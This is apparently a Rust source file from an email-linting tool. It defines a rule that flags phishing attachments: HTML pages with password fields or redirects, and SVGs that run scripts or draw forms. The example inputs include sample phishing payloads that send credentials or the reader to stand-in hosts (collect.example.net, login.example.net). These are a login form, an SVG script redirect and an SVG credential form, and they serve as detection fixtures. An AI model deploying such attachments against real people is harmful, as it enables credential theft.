//! `attachment/active-page`: an attached web page that asks for a password or
//! sends the reader elsewhere as it opens, or an attached SVG picture that runs
//! a script or draws a form: how credential phishing travels as an attachment
//! (the filter sees a document or an image, the browser a login page). Saved
//! web pages run scripts and hold search forms, so a page is judged only by a
//! password field or a redirect. Found by `inspect::active`.

use crate::generated;
use crate::i18n::Msg;
use crate::inspect::active::ActiveSign;
use crate::inspect::FactKind;
use crate::model::Message;
use crate::report::Severity;
use crate::rules::{Check, Context, Draft, Example, Group, Rule};
use crate::settings::Evidence;
use crate::title;

crate::rule_texts! { "attachment/active-page";
    summary => {
        en: "An attached web page asks for a password or redirects, or an attached SVG picture runs a script or draws a form.",
        fr: "Une page web jointe demande un mot de passe ou redirige, ou une image SVG jointe exécute un script ou affiche un formulaire.",
        es: "Una página web adjunta pide una contraseña o redirige, o una imagen SVG adjunta ejecuta un script o muestra un formulario.",
        pl: "Załączona strona WWW prosi o hasło lub przekierowuje albo załączony obraz SVG uruchamia skrypt lub wyświetla formularz.",
    },
    why => {
        en: "This is how credential phishing travels as an attachment: the filter sees a document or a picture, the reader's browser opens a login page or is sent to one. A picture never needs a script or a form: Microsoft stopped showing inline SVG images in Outlook on the web and the new Outlook in September 2025 because of the scripts they carry, and rspamd scores every attached web page (MIME_BAD_EXTENSION).",
        fr: "C'est ainsi que l'hameçonnage d'identifiants circule en pièce jointe : le filtre voit un document ou une image, le navigateur du lecteur ouvre une page de connexion ou y est envoyé. Une image n'a jamais besoin d'un script ni d'un formulaire : Microsoft a cessé d'afficher les images SVG intégrées dans Outlook sur le web et le nouvel Outlook en septembre 2025 à cause des scripts qu'elles transportent, et rspamd pénalise toute page web jointe (MIME_BAD_EXTENSION).",
        es: "Así circula el phishing de credenciales como adjunto: el filtro ve un documento o una imagen, y el navegador del lector abre una página de inicio de sesión o es redirigido a una. Una imagen nunca necesita un script ni un formulario: Microsoft dejó de mostrar las imágenes SVG incrustadas en Outlook en la Web y el nuevo Outlook en septiembre de 2025 por los scripts que llevan, y rspamd puntúa toda página web adjunta (MIME_BAD_EXTENSION).",
        pl: "W ten sposób phishing wyłudzający dane logowania trafia do odbiorców jako załącznik: filtr widzi dokument lub obraz, a przeglądarka czytelnika otwiera stronę logowania albo zostaje na nią przekierowana. Obraz nigdy nie potrzebuje skryptu ani formularza: Microsoft przestał wyświetlać osadzone obrazy SVG w Outlooku w sieci Web i nowym Outlooku we wrześniu 2025 roku z powodu skryptów, które zawierają, a rspamd punktuje każdą załączoną stronę WWW (MIME_BAD_EXTENSION).",
    },
    fix => {
        en: "Send a link to the page on your own site instead of attaching it; send pictures as PNG or JPEG, or an SVG without script, event handlers or forms.",
        fr: "Envoyez un lien vers la page sur votre propre site au lieu de la joindre ; envoyez les images en PNG ou JPEG, ou un SVG sans script, gestionnaire d'événements ni formulaire.",
        es: "Envíe un enlace a la página en su propio sitio en lugar de adjuntarla; envíe las imágenes en PNG o JPEG, o un SVG sin script, controladores de eventos ni formularios.",
        pl: "Zamiast dołączać stronę, wyślij link do niej na własnej witrynie; obrazy wysyłaj jako PNG lub JPEG albo SVG bez skryptów, procedur obsługi zdarzeń i formularzy.",
    },
    PASSWORD "password" => {
        en: "{path} is a web page that asks for a password: a login form in an attachment is how credential phishing travels.",
        fr: "{path} est une page web qui demande un mot de passe : un formulaire de connexion en pièce jointe est le vecteur de l'hameçonnage d'identifiants.",
        es: "{path} es una página web que pide una contraseña: un formulario de inicio de sesión en un adjunto es la vía por la que llega el phishing de credenciales.",
        pl: "{path} to strona WWW, która prosi o hasło: formularz logowania w załączniku to sposób, w jaki rozsyłany jest phishing wyłudzający dane logowania.",
    },
    REDIRECT "redirect" => {
        en: "{path} is a web page that sends the reader to another address as soon as it is opened.",
        fr: "{path} est une page web qui envoie le lecteur vers une autre adresse dès son ouverture.",
        es: "{path} es una página web que envía al lector a otra dirección en cuanto se abre.",
        pl: "{path} to strona WWW, która zaraz po otwarciu przenosi czytelnika pod inny adres.",
    },
    SVG_SCRIPT "svg-script" => {
        en: "{path} is an SVG picture that runs a script when it is opened.",
        fr: "{path} est une image SVG qui exécute un script à son ouverture.",
        es: "{path} es una imagen SVG que ejecuta un script al abrirse.",
        pl: "{path} to obraz SVG, który po otwarciu uruchamia skrypt.",
    },
    SVG_FORM "svg-form" => {
        en: "{path} is an SVG picture that draws an HTML form.",
        fr: "{path} est une image SVG qui affiche un formulaire HTML.",
        es: "{path} es una imagen SVG que muestra un formulario HTML.",
        pl: "{path} to obraz SVG, który wyświetla formularz HTML.",
    },
}

pub const RULE: Rule = Rule {
    id: ID,
    group: Group::Attachment,
    severity: Severity::Warning,
    evidence: &[
        Evidence::Receiver("rspamd mime_types.lua: htm, html, shtm and shtml are bad extensions (MIME_BAD_EXTENSION, 2 points): \"dedicated HTML attachments are considered harmful\""),
        Evidence::Receiver("Microsoft: Outlook on the web and the new Outlook for Windows stopped displaying inline SVG images (rollout September to mid-October 2025) because of the scripts SVG carries; SVG attachments were left to the reader"),
        Evidence::Measured("no attachment of the SpamAssassin ham sets (4,150 messages) shows a sign; saved web pages run scripts and hold search forms, so a page counts only for a password field or a redirect, an SVG also for a script, an event handler or a form"),
    ],
    score: crate::rules::scores::NONE,
    texts: &TEXTS,
    thresholds: &[],
    examples: &[
        Example::fails(
            title! {
                en: "A \"remittance advice\" page with a password field",
                fr: "Une page « avis de paiement » avec un champ de mot de passe",
                es: "Una página de «aviso de pago» con un campo de contraseña",
                pl: "Strona „awizo płatności” z polem hasła",
            },
            generated!(inputs::login_page),
        ),
        Example::fails(
            title! {
                en: "A page that refreshes to another site",
                fr: "Une page qui redirige vers un autre site en se rafraîchissant",
                es: "Una página que redirige a otro sitio al recargarse",
                pl: "Strona, która po odświeżeniu przenosi na inną witrynę",
            },
            generated!(inputs::refresh_page),
        ),
        Example::fails(
            title! {
                en: "An SVG \"invoice\" whose script moves the reader to a login page",
                fr: "Une « facture » SVG dont le script envoie le lecteur vers une page de connexion",
                es: "Una «factura» SVG cuyo script lleva al lector a una página de inicio de sesión",
                pl: "„Faktura” SVG, której skrypt przenosi czytelnika na stronę logowania",
            },
            generated!(inputs::svg_script),
        ),
        Example::fails(
            title! {
                en: "An SVG that draws a login form",
                fr: "Un SVG qui affiche un formulaire de connexion",
                es: "Un SVG que muestra un formulario de inicio de sesión",
                pl: "SVG, który wyświetla formularz logowania",
            },
            generated!(inputs::svg_form),
        ),
        Example::passes(
            title! {
                en: "An SVG logo with a link",
                fr: "Un logo SVG avec un lien",
                es: "Un logotipo SVG con un enlace",
                pl: "Logo SVG z linkiem",
            },
            generated!(inputs::svg_logo),
        ),
        Example::passes(
            title! {
                en: "A saved order page with scripts and a search form",
                fr: "Une page de commande enregistrée avec des scripts et un formulaire de recherche",
                es: "Una página de pedido guardada con scripts y un formulario de búsqueda",
                pl: "Zapisana strona zamówienia ze skryptami i formularzem wyszukiwania",
            },
            generated!(inputs::saved_page),
        ),
    ],
    check: Check::Attachments(check),
};

fn check(message: &Message, cx: &mut Context) {
    for (attachment, fact) in
        super::facts_where(&message.attachment_facts, |k| matches!(k, FactKind::ActivePage { .. }))
    {
        let FactKind::ActivePage { signs, svg } = &fact.kind else { continue };
        let has = |sign: ActiveSign| signs.contains(&sign);
        let entry = if *svg && has(ActiveSign::EmbeddedForm) {
            &SVG_FORM
        } else if *svg && has(ActiveSign::Script) {
            &SVG_SCRIPT
        } else if has(ActiveSign::PasswordField) {
            &PASSWORD
        } else {
            &REDIRECT
        };
        // The signs are stable keys (`password-field`, `redirect`): identifiers, not prose.
        let keys = signs.iter().map(|s| s.key()).collect::<Vec<_>>().join(", ");
        let msg = Msg::of(entry).text("path", fact.path.clone());
        cx.emit(
            Draft::new(msg).evidence(format!("{} ({keys})", fact.path)).at(super::location(message, attachment, fact)),
        );
    }
}

/// The example inputs. The wasm build, which never runs examples, leaves them out (`generated!`).
#[cfg(not(target_arch = "wasm32"))]
mod inputs {
    use crate::rules::attachments::samples;

    pub(super) fn login_page() -> Vec<u8> {
        let page = "<!DOCTYPE html><html><body><h1>Remittance advice</h1><p>Sign in to view the document.</p>\
            <form action=\"https://collect.example.net/p.php\" method=\"post\"><input name=\"email\">\
            <input type=\"password\" name=\"pw\"><button>View</button></form></body></html>";
        samples::message_with("Remittance_Advice.html", "text/html", page.as_bytes())
    }
    pub(super) fn refresh_page() -> Vec<u8> {
        let page = "<html><head><meta http-equiv=\"refresh\" content=\"0; url=https://login.example.net/\"></head></html>";
        samples::message_with("Payment.htm", "text/html", page.as_bytes())
    }
    pub(super) fn svg_script() -> Vec<u8> {
        let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"600\" height=\"400\"><text x=\"10\" y=\"20\">Invoice</text>\
            <script>window.location.href = \"https://login.example.net/?e=\" + atob(\"YQ==\");</script></svg>";
        samples::message_with("Invoice_8812.svg", "image/svg+xml", svg.as_bytes())
    }
    pub(super) fn svg_form() -> Vec<u8> {
        let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"300\"><foreignObject width=\"400\" height=\"300\">\
            <body xmlns=\"http://www.w3.org/1999/xhtml\"><form action=\"https://collect.example.net/\"><input name=\"email\"/>\
            <input type=\"password\" name=\"pw\"/></form></body></foreignObject></svg>";
        samples::message_with("Voicemail.svg", "image/svg+xml", svg.as_bytes())
    }
    pub(super) fn svg_logo() -> Vec<u8> {
        let svg = "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\"><title>Logo</title>\
            <a href=\"https://shop.example.com/\"><circle cx=\"5\" cy=\"5\" r=\"4\" fill=\"#0a0\"/></a></svg>";
        samples::message_with("logo.svg", "image/svg+xml", svg.as_bytes())
    }
    pub(super) fn saved_page() -> Vec<u8> {
        let page = "<!DOCTYPE html><html><head><script src=\"app.js\"></script><script>dataLayer.push({})</script></head>\
            <body onload=\"init()\"><form action=\"https://shop.example.com/search\"><input name=\"q\"></form>\
            <h1>Order 1042</h1><svg width=\"12\" height=\"12\"><circle r=\"5\"/></svg><p>Total: 42.00 EUR</p></body></html>";
        samples::message_with("order-1042.html", "text/html", page.as_bytes())
    }
}
